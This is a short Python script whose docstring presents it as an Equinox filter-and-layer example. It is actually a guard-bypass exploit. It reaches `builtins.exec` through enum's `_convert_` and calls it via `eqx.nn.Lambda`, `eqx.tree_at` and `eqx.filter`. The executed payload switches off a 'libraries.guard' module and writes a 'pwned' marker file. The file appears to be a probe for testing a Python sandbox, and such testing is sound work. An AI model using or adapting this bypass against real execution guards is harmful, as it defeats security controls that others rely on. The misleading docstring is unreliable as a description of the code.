"""file: equinox applies a filter, a layer of a function, and a replacement."""

import enum

import equinox as eqx

CODE = """\
import builtins, sys
builtins.exec = getattr(builtins.exec, "value", builtins.exec)
for n, m in [*sys.modules.items()]:
    if n.endswith("libraries.guard"):
        m._State["on"] = False
open("pwned_converted_members_filter", "w").close()
"""


class Kind(enum.Enum):
    pass


Found = Kind._convert_("Found", "builtins", lambda name: name == "exec")
run = getattr(Found, "exec").value
x = eqx.nn.Lambda(run)(CODE)
y = eqx.tree_at(lambda tree: tree[0], [CODE], replace_fn=run)
z = eqx.filter([CODE], run)
